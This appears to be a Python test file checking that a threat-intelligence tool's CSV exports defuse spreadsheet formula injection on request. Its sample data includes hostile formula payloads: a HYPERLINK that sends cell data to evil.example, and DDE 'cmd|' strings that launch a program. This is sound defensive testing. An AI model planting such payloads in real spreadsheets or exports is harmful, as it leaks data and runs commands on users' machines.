#!/usr/bin/env python3
"""test_csv_export.py - CSV downloads are verbatim for machines and, on request, safe to
open in a spreadsheet (OWASP "CSV Injection"; src/common/csv.h).

On a real center and the real `crosswatch ioc convert`:
  - indicator export: descriptions starting with = + - @ come out verbatim by default and
    with a leading ' with ?for=spreadsheet; quotes, commas and line breaks are RFC 4180
    in both modes (read back with Python's csv module); the default export imported into
    a second center exports the same rows again;
  - summary by member: a member named like a formula, verbatim / defused the same way;
  - series, notice and incident statistics accept ?for=spreadsheet (nothing in them can
    start a formula: the answer is the default's byte for byte); ?for=excel is 400;
  - `ioc convert --to csv [--spreadsheet]`: the same two modes, and the default output
    converts to itself;
  - `crosswatch admin ioc export --format csv [--spreadsheet]` and `admin stats --fy N
    --csv [--spreadsheet]`: the route's two modes byte for byte (descriptions verbatim /
    with a leading '); --spreadsheet without CSV is a usage error (exit 2).
"""
import csv
import io
import json
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import cwtest  # noqa: E402

FORMULA = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
           "+cmd|' /C calc'!A0",
           "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0"]
PLAIN = ["phishing kit, \"urgent\" invoice\nsecond line", "a=1 stays as is"]
HOSTILE_MEMBER = "=cmd|\"/C calc\"!A0,x"


def rows_of(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def alert(i, src):
    return json.dumps({
        "timestamp": "2024-05-01T10:%02d:00.000000+0000" % i, "flow_id": 7000 + i,
        "event_type": "alert", "src_ip": src, "src_port": 40000 + i, "dest_ip": "10.1.1.10",
        "dest_port": 443, "proto": "TCP",
        "alert": {"action": "allowed", "gid": 1, "signature_id": 2050100, "rev": 2,
                  "signature": "ET EXPLOIT Ivanti Connect Secure Command Injection Attempt",
                  "category": "Attempted Administrator Privilege Gain", "severity": 1},
        "http": {"hostname": "vpn.example", "url": "/x", "http_method": "GET",
                 "status": 200}}, separators=(",", ":"))


def indicators(ck, c, c2):
    print("[indicator export]")
    descs = FORMULA + PLAIN
    for k, d in enumerate(descs):
        c.admin_json("POST", "/api/v1/indicators",
                     {"type": "domain", "value": "csv-%d.example" % k, "description": d,
                      "publish": True})
    r = c.req("GET", "/api/v1/indicators/export?format=csv")
    ck.require(r.status == 200, "default CSV export", repr(r))
    plain = r.text()
    got = {x["value"]: x["description"] for x in rows_of(plain)}
    ck.eq([got.get("csv-%d.example" % k) for k in range(len(descs))], descs,
          "default export: every description verbatim (formulas, quotes, commas, newlines)")
    r = c.req("GET", "/api/v1/indicators/export?format=csv&for=spreadsheet")
    ck.require(r.status == 200, "spreadsheet CSV export", repr(r))
    sheet = r.text()
    got = {x["value"]: x["description"] for x in rows_of(sheet)}
    ck.eq([got.get("csv-%d.example" % k) for k in range(len(descs))],
          ["'" + d for d in FORMULA] + PLAIN,
          "?for=spreadsheet: = + - @ descriptions get a leading ', the others verbatim")
    for d in FORMULA:
        q = '"\'' + d.replace('"', '""') + '"'
        ck.check(q in sheet, "spreadsheet cell is quoted with the ' inside: %s" % q)
        ck.check(("\n" + d[0]) not in sheet and ("," + d[0]) not in sheet,
                 "no cell of the spreadsheet export starts with %r" % d[0])
    ck.check('"phishing kit, ""urgent"" invoice\nsecond line"' in plain and
             '"phishing kit, ""urgent"" invoice\nsecond line"' in sheet,
             "quote, comma and line break are RFC 4180 in both modes")
    ck.eq(len(rows_of(sheet)), len(rows_of(plain)), "both modes: the same number of rows")
    ck.eq(c.req("GET", "/api/v1/indicators/export?format=csv&for=excel").status, 400,
          "?for=excel: 400")

    print("[default export round trip through a second center]")
    r = c2.req("POST", "/api/v1/indicators/import?format=csv&publish=true", plain)
    j = r.json()
    ck.eq((r.status, j["added"], j["rejected_count"]), (200, len(descs), 0),
          "the default export imports whole")
    again = c2.req("GET", "/api/v1/indicators/export?format=csv").text()
    key = ("type", "value", "tlp", "confidence", "description", "id", "labels")
    ck.eq(sorted(tuple(x[k] for k in key) for x in rows_of(again)),
          sorted(tuple(x[k] for k in key) for x in rows_of(plain)),
          "imported and exported again: the same rows")


def statistics(ck, c):
    print("[summary by member]")
    m = c.add_member(HOSTILE_MEMBER)
    c.add_member("calm")
    s1 = c.add_sensor(m["id"], "gw")
    s2 = c.add_sensor("calm", "gw2")
    for s, base in ((s1, 10), (s2, 50)):
        r = c.ingest(s["key"], "".join(alert(i, "198.51.100.%d" % (base + i)) + "\n"
                                       for i in range(3)), "eve")
        ck.require(r.status == 200 and r.json()["accepted"] == 3, "3 alerts ingested", repr(r))
    r = c.req("GET", "/api/v1/summary?group=member&format=csv")
    ck.require(r.status == 200, "summary CSV", repr(r))
    plain = {x["key"]: x["label"] for x in rows_of(r.text())}
    ck.eq(plain.get(str(m["id"])), HOSTILE_MEMBER, "default: the member name verbatim")
    r = c.req("GET", "/api/v1/summary?group=member&format=csv&for=spreadsheet")
    ck.require(r.status == 200, "summary CSV for a spreadsheet", repr(r))
    sheet = {x["key"]: x["label"] for x in rows_of(r.text())}
    ck.eq(sheet.get(str(m["id"])), "'" + HOSTILE_MEMBER, "?for=spreadsheet: a leading '")
    ck.check('"\'=cmd|""/C calc""!A0,x"' in r.text(), "quoted, quotes doubled, ' inside")
    ck.eq([v for k, v in sheet.items() if v == "calm"], ["calm"], "a calm name is unchanged")
    for path in ("/api/v1/summary?group=member&format=csv",
                 "/api/v1/series?metric=records&bucket=day&format=csv"
                 "&from=2024-04-30T00:00:00Z&to=2024-05-03T00:00:00Z",
                 "/api/v1/notices/stats?format=csv",
                 "/api/v1/stats/incidents?fy=2024&format=csv"):
        ck.eq(c.req("GET", path + "&for=excel").status, 400, "%s&for=excel: 400" % path)
    print("[figures only: ?for=spreadsheet changes nothing]")
    for path in ("/api/v1/series?metric=records&bucket=day&format=csv"
                 "&from=2024-04-30T00:00:00Z&to=2024-05-03T00:00:00Z",
                 "/api/v1/notices/stats?format=csv",
                 "/api/v1/stats/incidents?fy=2024&format=csv"):
        a, b = c.req("GET", path), c.req("GET", path + "&for=spreadsheet")
        ck.check(a.status == 200 and b.status == 200 and a.body == b.body and len(a.body) > 10,
                 "%s: same answer for a spreadsheet" % path, "%r %r" % (a, b))


def admin_cli(ck, c, binary):
    print("[crosswatch admin: ioc export --format csv / stats --csv [--spreadsheet]]")
    base = [binary, "admin", "--center", c.url, "--token-file",
            os.path.join(c.data_dir, "admin.token")]

    def admin(*a):
        p = cwtest.run(base + list(a))
        ck.require(p.returncode == 0, "admin %s" % " ".join(a), p.stderr[-300:])
        return p.stdout.decode()
    descs = FORMULA + PLAIN
    plain = admin("ioc", "export", "--format", "csv")
    sheet = admin("ioc", "export", "--format", "csv", "--spreadsheet")
    got = {x["value"]: x["description"] for x in rows_of(plain)}
    ck.eq([got.get("csv-%d.example" % k) for k in range(len(descs))], descs,
          "admin ioc export --format csv: descriptions verbatim")
    got = {x["value"]: x["description"] for x in rows_of(sheet)}
    ck.eq([got.get("csv-%d.example" % k) for k in range(len(descs))],
          ["'" + d for d in FORMULA] + PLAIN,
          "admin ioc export --format csv --spreadsheet: a leading ' on = + - @")
    ck.eq(sheet, c.req("GET", "/api/v1/indicators/export?format=csv&for=spreadsheet").text(),
          "--spreadsheet prints the route's ?for=spreadsheet answer byte for byte")
    stats = admin("stats", "--fy", "2024", "--csv")
    stats_sheet = admin("stats", "--fy", "2024", "--csv", "--spreadsheet")
    ck.check(len(stats) > 10 and stats_sheet == c.req(
        "GET", "/api/v1/stats/incidents?fy=2024&format=csv&for=spreadsheet").text(),
        "admin stats --csv --spreadsheet prints the route's answer", stats_sheet[:200])
    ck.check(stats_sheet == stats, "figures only: the same table either way")
    for a in (["ioc", "export", "--format", "plain", "--spreadsheet"],
              ["ioc", "export", "--spreadsheet"],
              ["stats", "--fy", "2024", "--spreadsheet"]):
        p = cwtest.run(base + a)
        ck.check(p.returncode == 2 and b"--spreadsheet goes with" in p.stderr,
                 "admin %s: a usage error" % " ".join(a), p.stderr[-300:])


def convert(ck, env, binary):
    print("[ioc convert --to csv [--spreadsheet]]")
    src = env.path("in.csv")
    with open(src, "w", newline="") as f:
        w = csv.writer(f, lineterminator="\r\n")
        w.writerow(["type", "value", "description"])
        for k, d in enumerate(FORMULA + PLAIN):
            w.writerow(["domain", "conv-%d.example" % k, d])

    def conv(*a):
        p = cwtest.run([binary, "ioc", "convert", "--to", "csv", "-q", *a])
        ck.require(p.returncode == 0, "ioc convert %s" % " ".join(a), p.stderr[-300:])
        return p.stdout.decode()
    plain, sheet = conv(src), conv("--spreadsheet", src)
    descs = FORMULA + PLAIN
    ck.eq([x["description"] for x in rows_of(plain)], descs, "convert: verbatim by default")
    ck.eq([x["description"] for x in rows_of(sheet)], ["'" + d for d in FORMULA] + PLAIN,
          "convert --spreadsheet: a leading ' on = + - @")
    out = env.path("out.csv")
    with open(out, "w", newline="") as f:
        f.write(plain)
    ck.eq(conv(out), plain, "the default output converts to itself byte for byte")


def main():
    args = cwtest.parse_args()
    with cwtest.TestEnv("test_csv_export", keep=args.keep) as env:
        ck = env.c
        c = env.center(args.binary)
        c2 = env.center(args.binary, name="second")
        indicators(ck, c, c2)
        statistics(ck, c)
        admin_cli(ck, c, args.binary)
        convert(ck, env, args.binary)
        ck.eq(env.sanitizer_reports(), [], "no sanitizer reports")


if __name__ == "__main__":
    main()
